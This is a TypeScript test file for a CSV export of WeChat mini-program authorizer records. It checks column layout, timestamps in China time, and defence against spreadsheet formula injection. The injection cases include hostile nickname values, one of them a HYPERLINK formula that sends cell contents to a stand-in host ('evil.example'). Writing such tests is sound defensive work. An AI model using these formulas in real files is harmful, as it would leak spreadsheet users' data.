import type { Authorizer } from '@guanjia/contract'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvHeader, csvLineOf } from './authorizer-csv.ts'

const SHOP: Authorizer = {
  componentAppid: 'wx00000000000c0001',
  appid: 'wx00000000000a0001',
  originalId: 'gh_1',
  nickname: '小巷咖啡',
  headImageUrl: null,
  principalName: '示例有限公司',
  kind: 'mini_program',
  serviceType: 'ordinary',
  verifyType: 'wechat',
  registerType: null,
  accountStatus: 'normal',
  permissionSets: [{ id: 18, name: '小程序开发与数据分析' }],
  status: 'active',
  businessIds: ['shop-1', 'shop-2'],
  labels: ['vip', '华东'],
  note: '',
  authorizedAt: Date.UTC(2026, 10, 22, 16, 30, 5),
  revokedAt: null,
  syncedAt: null,
  createdAt: 0,
}

/** What a spreadsheet reads: cells of one line (RFC 4180). */
function readLine(line: string): string[] {
  const cells: string[] = []
  const pattern = /(?:"((?:[^"]|"")*)"|([^,"\r\n]*))(,|\r\n$)/gy
  for (let match = pattern.exec(line); match; match = pattern.exec(line)) {
    cells.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '')
    if (match[3] !== ',') break
  }
  return cells
}

describe('a line', () => {
  it('tells in Chinese what people look for, in the time of China', () => {
    expect(readLine(csvLineOf(SHOP))).toEqual([
      'wx00000000000a0001',
      '小巷咖啡',
      'gh_1',
      '小程序',
      '示例有限公司',
      '已授权',
      '正常',
      'shop-1 shop-2',
      'vip | 华东',
      '',
      '18 小程序开发与数据分析',
      '2026-11-23 00:30:05',
      '',
      '',
      'wx00000000000c0001',
    ])
    expect(readLine(csvHeader())).toHaveLength(15)
  })

  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '+86 139',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
  ])('keeps a spreadsheet from running %j', (nickname) => {
    const [, cell] = readLine(csvLineOf({ ...SHOP, nickname }))
    expect(cell).toBe(`'${nickname}`)
  })

  it('is read back as it was, whatever a merchant calls himself', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', minLength: 1 }), fc.string({ unit: 'grapheme' }), (nickname, note) => {
        const cells = readLine(csvLineOf({ ...SHOP, nickname, note }))
        expect(cells).toHaveLength(15)
        expect([nickname, `'${nickname}`]).toContain(cells[1])
        expect([note, `'${note}`]).toContain(cells[9])
        expect(cells[1]).not.toMatch(/^[=+\-@\t\r]/)
      }),
    )
  })
})
